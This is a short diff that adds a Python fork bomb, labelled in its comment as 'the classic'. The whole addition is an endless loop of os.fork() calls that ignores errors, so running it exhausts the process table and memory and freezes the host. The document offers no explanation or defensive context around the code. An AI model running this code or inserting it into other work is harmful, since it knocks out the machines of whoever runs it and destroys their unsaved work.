@@ -1,0 +1,8 @@
+# The classic in Python.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
